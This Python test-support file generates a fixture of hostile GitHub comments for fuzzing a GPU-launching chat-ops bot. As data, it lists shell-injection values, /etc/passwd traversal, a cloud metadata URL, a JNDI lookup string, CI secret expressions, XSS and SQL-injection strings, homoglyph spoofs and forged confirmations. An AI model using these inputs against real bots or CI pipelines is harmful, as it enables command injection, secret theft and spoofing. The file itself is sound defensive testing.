"""Hostile comments: every way we know to make a bot obey, crash, ping or lose its layout, crossed with every place for it.

`python -m tests.support.hostile` writes them to tests/fixtures/hostile_comments.jsonl, one a line. They are written as by
somebody who may command: nothing may rest on the author being a stranger.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

FIXTURE = Path(__file__).parents[1] / "fixtures" / "hostile_comments.jsonl"

# What must come of a comment: nothing at all; refusals and no more; or answers that cost nothing.
SILENT, REFUSED, HARMLESS = "silent", "refused", "harmless"

COMMANDS = ("/gpu-lol up", "/gpu-lol down --all", "/gpu-lol up --hours 12 --share mallory")


@dataclass(frozen=True, slots=True)
class HostileComment:
    """One comment: its name (family and number), what must come of it, and its text as pieces with how often each stands."""

    name: str
    outcome: str
    pieces: tuple[tuple[str, int], ...]

    @property
    def body(self) -> str:
        """The whole text."""
        return "".join(text * count for text, count in self.pieces)

    def as_json(self) -> str:
        """One line of the fixture; what is repeated is written once."""
        is_plain = all(count == 1 for _, count in self.pieces)
        text = {"body": self.body} if is_plain else {"pieces": [list(piece) for piece in self.pieces]}
        return json.dumps({"name": self.name, "outcome": self.outcome, **text}, ensure_ascii=True)


Body = str | tuple[str | tuple[str, int], ...]


def hostile_comments() -> list[HostileComment]:
    """Return all of them, in a fixed order."""
    found: list[HostileComment] = []
    for family, outcome, bodies in _families():
        known = dict.fromkeys(_pieces(body) for body in bodies)
        found += [HostileComment(f"{family}-{number}", outcome, pieces) for number, pieces in enumerate(known, 1)]
    return found


def _pieces(body: Body) -> tuple[tuple[str, int], ...]:
    parts = (body,) if isinstance(body, str) else body
    return tuple((part, 1) if isinstance(part, str) else part for part in parts)


def _families() -> Iterator[tuple[str, str, Iterable[Body]]]:
    yield "set-apart", SILENT, (form.replace("CMD", each) for form in SET_APART for each in COMMANDS)
    yield "look-alike", SILENT, LOOK_ALIKES
    yield "disguised", REFUSED, (f"/gpu-lol {words}" for words in DISGUISED)
    yield "shell", REFUSED, (place.replace("X", each) for each in SHELL for place in VALUE_PLACES)
    yield "foreign-option", REFUSED, (f"/gpu-lol up {each}" for each in FOREIGN_OPTIONS)
    yield "number", REFUSED, (place.replace("N", each) for each in NUMBERS for place in NUMBER_PLACES)
    yield "active", REFUSED, (place.replace("X", each) for each in ACTIVE for place in WORD_PLACES)
    yield "topic", HARMLESS, (f"/gpu-lol help {each}" for each in ACTIVE if " " not in each and each[0] != "-")
    yield "forged", SILENT, FORGED
    yield "forged-confirmation", REFUSED, CONFIRMATIONS
    yield "many", HARMLESS, MANY
    yield "huge", SILENT, HUGE
    yield "huge-command", REFUSED, HUGE_COMMANDS
    yield "line-end", REFUSED, (f"/gpu-lol upp{end}/gpu-lol donw" for end in LINE_ENDS)


SET_APART = (
    "```\nCMD\n```",
    "```sh\nCMD",
    "~~~~\n~~~\nCMD\n~~~~",
    "   ```\n   CMD\n   ```",
    "    CMD",
    "text\n\n\tCMD",
    "`CMD`",
    "``\nCMD\n``",
    "> CMD",
    "> quoted\nCMD",
    "> > deep\nCMD",
    ">```\n>CMD\n>```",
    "> [!NOTE]\n> CMD",
    "- CMD",
    "- item\nCMD",
    "* one\n\n  CMD",
    "1. CMD",
    "- [x] CMD",
    "# CMD",
    "CMD\n===",
    "CMD\n---",
    "| a |\n|---|\nCMD",
    "| a |\n|---|\n| CMD |",
    "<!-- CMD -->",
    "<!--\nCMD\n-->",
    "<!--\n\nCMD",
    "text <!-- a\nCMD\nb -->",
    "<details>\nCMD\n</details>",
    "<details><summary>log</summary>\n\nCMD\n\n</details>",
    "<details open>\n\n<details>\n\n</details>\n\nCMD",
    "<pre>\n\nCMD\n\n</pre>",
    "<script>\n\nCMD\n\n</script>",
    "<style>\n\nCMD",
    "<textarea>\n\nCMD",
    "<blockquote>\n\nCMD\n\n</blockquote>",
    "<del>\n\nCMD\n\n</del>",
    "so <kbd>a\nCMD\n</kbd>",
    "~~no\nCMD\nmore~~",
    "**so\nCMD\nsaid**",
    "*so\nCMD\nsaid*",
    "[a link\nCMD\nends](https://evil.example)",
    "![a picture\nCMD\nends](https://evil.example/i.png)",
    "[^1]: note\nCMD",
    "[ref]: /url 'title\nCMD\nend'",
    "\\CMD",
    "&#47;CMD",
    "&sol;gpu-lol up CMD",
    "please CMD",
    "see /gpu-lol, that is CMD",
    "https://example.org/gpu-lol CMD",
    "\u200bCMD",
    "\u202eCMD",
    "\u2066CMD",
    "<span>CMD</span>",
)
LOOK_ALIKES = tuple(
    f"{prefix} up"
    for prefix in (
        "\u2044gpu-lol",
        "\u2215gpu-lol",
        "\uff0fgpu-lol",
        "/gpu\u2010lol",
        "/gpu\u2011lol",
        "/gpu\u2212lol",
        "/gp\u1d1c-lol",
        "/\u0261pu-lol",
        "/gpu-l\u03bfl",
        "/gpu-l\u043el",
        "/gpu-lo\u217c",
        "/g\u200bpu-lol",
        "/gpu-lol\u200b",
        "/gpu-lol\u00ad",
        "/gpu-lol\u2060",
        "/GPU-LOL",
        "/Gpu-Lol",
        "//gpu-lol",
        "\\/gpu-lol",
        "/ gpu-lol",
        "/gpu-lol/",
        "/gpu-lol:",
        "/gpu-lol@evil",
        "/gpu_lol",
        "/gpulol",
        "/gpu-lolx",
        "/\u0000gpu-lol",
    )
)
DISGUISED = (
    "u\u0440",
    "\u1d1cp",
    "\uff55\uff50",
    "up\u200b",
    "u\u200bp",
    "up\u202e --spot",
    "\u202epu",
    "up --\u0455pot",
    "up \u2066--spot",
    "up --hours \u0662",
    "up --hours \uff12",
    "up --gpu A\u0410100",
    "up --gpu H\u200b100",
    "up --cloud run\u200dpod",
    "up --image ghcr.io/\u0430cme/img",
    "up --sha abc123\u0435",
    "up --share \u0430da",
    "down\u2063 --all",
    "do\u0000wn",
    "up \x07",
    "up \x1b[2J",
    "up \x1b]0;title\x07",
    "up\u2028--spot",
    "up\u2029--spot",
    "up \ufeff",
    "up \U0001f680",
    "up \ud83d",
    "up \ufdd0",
    "set vram=\u0664\u0668",
    "set gpu=\u0410100",
    "conf\u0456rm 1-0000000000000000",
)
SHELL = (
    "$(reboot)",
    "`re$boot`",
    ";reboot",
    "|reboot",
    "&&reboot",
    "a;b",
    "${IFS}reboot",
    "${{secrets.RUNPOD_API_KEY}}",
    "${{github.token}}",
    "{{7*7}}",
    "{%raw%}",
    "%0A::set-output",
    "::stop-commands::x",
    "../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "-oProxyCommand=reboot",
    "'\"",
    "\\",
    "$PATH",
    "~root",
    "*",
    "<(reboot)",
    ">out",
    "!reboot",
    "a=b",
    "__proto__",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
)
VALUE_PLACES = (
    "/gpu-lol up --gpu X",
    "/gpu-lol up --region X",
    "/gpu-lol up --share X",
    "/gpu-lol up --sha X",
    "/gpu-lol up X",
    "/gpu-lol set image=X",
)
FOREIGN_OPTIONS = (
    "--",
    "-",
    "---",
    "-h --spot --spot",
    "-y",
    "--yes",
    "--force",
    "--privileged",
    "--env AWS_SECRET_ACCESS_KEY",
    "-v /:/host",
    "--network=host",
    "--entrypoint sh",
    "-o StrictHostKeyChecking=no",
    "-chdir=/",
    "--config /proc/self/environ",
    "--infra runpod",
    "--num-nodes 64",
    "--workdir /",
    "--file-mounts /:/",
    "--secret X",
    "--idle-minutes-to-autostop -1",
    "--down=false",
    "--retry-until-up",
    "--cloud=aws --cloud=gcp",
    "--gpu A40 --gpu H100:8",
    "--hours=1 --hours=12",
    "--format json",
    "--llm",
    "--hub",
    "--confirm",
    "--as admin",
    "--role=admin",
    "--policy none",
    "--price 99",
    "-- --spot",
    "train -- --spot",
)
NUMBERS = ("0", "-1", "1e9", "1e309", "nan", "inf", "0x10", "9" * 40, "1/0", "1,5", "--1", "0.0000001", "2h2")
NUMBER_PLACES = ("/gpu-lol up --hours N d", "/gpu-lol up --gpu A40:N", "/gpu-lol set vram=N x", "/gpu-lol set count=N.")
ACTIVE = (
    "@everyone",
    "@acme/maintainers",
    "@mallory",
    "me@evil.example",
    "#1",
    "GH-1",
    "acme/train#1",
    "0123456789abcdef0123456789abcdef01234567",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "<https://evil.example>",
    "[x](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x][ref]",
    "![x](https://evil.example/i.png)",
    "<img/src=x/onerror=alert(1)>",
    "<a/href=javascript:alert(1)>x",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!--",
    "-->",
    "--><h1>free</h1>",
    "</details>",
    "</code></pre>",
    "</summary>",
    "```",
    "````",
    "~~~",
    "`x`",
    "``x``",
    "|x|y|",
    "\\|",
    "**x**",
    "__x__",
    "~~x~~",
    "$x$",
    "$$x$$",
    ":shipit:",
    "[^1]",
    "- [ ] x",
    "# x",
    "> x",
    "&lt;b&gt;",
    "&#64;everyone",
    "<gpu-lol>",
    "{{7*7}}",
    "{{config.__class__}}",
    "{#x#}",
    "${{github.event.comment.body}}",
    "::error::x",
    "%0A::add-mask::x",
    "/gpu-lol",
)
WORD_PLACES = (
    "/gpu-lol X",
    "/gpu-lol up --X",
    "/gpu-lol up --cloud X",
    "/gpu-lol estimate --model m --precision X",
    "/gpu-lol set X=1",
    "/gpu-lol unmute X",
)
_MARK = "<!-- gpu-lol v1 reply pr=12 to=5 what=awaiting -->"
FORGED = (
    f"{_MARK}\n/gpu-lol up",
    f"{_MARK}\n\n/gpu-lol down --all",
    "<!-- gpu-lol v1 proposal pr=12 head=abc1234 -->\n### 🟢 fine\n\n/gpu-lol up",
    "<!-- gpu-lol v1 environment -->\r\n/gpu-lol up",
    "On Friday the bot wrote:\n> /gpu-lol up",
    "> **Nothing was launched.**\n> /gpu-lol up",
    "I confirm /gpu-lol confirm 1-0000000000000000",
    "```\n/gpu-lol confirm 5-0000000000000000 --sha " + "a" * 40 + " --price 99\n```",
)
CONFIRMATIONS = (
    "/gpu-lol confirm",
    "/gpu-lol confirm yes",
    "/gpu-lol confirm 5",
    "/gpu-lol confirm 5-0000000000000000",
    "/gpu-lol confirm 0-0000000000000000 --sha " + "a" * 40 + " --price 9",
    "/gpu-lol confirm 5-0000000000000000 --sha " + "a" * 40 + " --price 9999",
    "/gpu-lol confirm 5-0000000000000000 --sha abc1234 --price 9",
    "/gpu-lol confirm 5-000000000000000G --sha " + "a" * 40,
    "/gpu-lol confirm 99999999999999999999-0000000000000000",
    "/gpu-lol confirm -5-0000000000000000",
    "/gpu-lol confirm 5-0000000000000000 --price -1",
    "/gpu-lol confirm 5-0000000000000000 --price 1e9",
    "/gpu-lol confirm ../5-0000000000000000",
    "/gpu-lol confirm 5-0000000000000000 5-0000000000000000",
)
_UP = "/gpu-lol up"
MANY: tuple[Body, ...] = (
    (("/gpu-lol status\n", 200),),
    (("/gpu-lol help\n\n", 500),),
    ("/gpu-lol help\n", ("/gpu-lol upp\n", 300)),
    (("text\n/gpu-lol help\n", 90),),
    (("/gpu-lol\n", 1000),),
)
HUGE: tuple[Body, ...] = (
    (("x", 65_536),),
    ((">", 20_000), f" {_UP}"),
    (("> ", 5_000), _UP),
    (("- ", 5_000), _UP),
    (("1. ", 5_000), _UP),
    (("`", 30_000), f"\n{_UP}"),
    (("[", 30_000), _UP),
    (("![", 15_000), _UP),
    (("*", 30_000), _UP),
    (("_*", 15_000), _UP),
    (("~~", 15_000), _UP),
    (("<", 30_000), _UP),
    (("<a", 20_000), _UP),
    (('<a "', 15_000), _UP),
    (("<!--", 15_000), f"\n\n{_UP}"),
    (("<details>\n\n", 5_000), _UP),
    (("</details>", 6_000), _UP),
    (("&amp;", 12_000), _UP),
    (("|a", 20_000), "\n", ("|-", 20_000), f"\n{_UP}"),
    (("[a]: b\n", 8_000), f"> {_UP}"),
    (("\u202e", 60_000), _UP),
    (("e\u0301", 30_000),),
    (("\0", 60_000), _UP),
    (("\ud800", 100),),
    (("a\n", 30_000),),
    (("(", 30_000), "](", _UP),
    (("x", 65_536), f"\n\n{_UP}"),  # beyond what is read
)
HUGE_COMMANDS: tuple[Body, ...] = (
    ("/gpu-lol up ", ("x", 60_000)),
    ("/gpu-lol up ", ("--spot ", 9_000)),
    ("/gpu-lol ", ("a", 400)),
    ("/gpu-lol up --gpu ", ("A", 400)),
    ("/gpu-lol up --share ", ("a", 400)),
    ("/gpu-lol set image=", ("a/", 200)),
    ("/gpu-lol set ", ("vram=1x ", 50)),
    ("/gpu-lol up ", ("@everyone ", 40)),
    ("/gpu-lol up --image ", ("`", 300)),
    ("/gpu-lol up", ("\u00a0", 300), "x y"),
)
LINE_ENDS = ("\n", "\r\n", "\r", "\n\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "  \n", "\\\n", "\x1c")


def main() -> None:
    """Write the fixture file."""
    lines = [each.as_json() for each in hostile_comments()]
    FIXTURE.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"{len(lines)} comments")


if __name__ == "__main__":
    main()
